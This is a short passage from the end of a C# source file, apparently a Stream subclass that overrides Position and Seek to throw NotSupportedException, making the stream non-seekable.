        public override long Position { get => base.Position; set => throw new NotSupportedException(); }
        public override long Seek(long offset, SeekOrigin loc) => throw new NotSupportedException();
    }
}
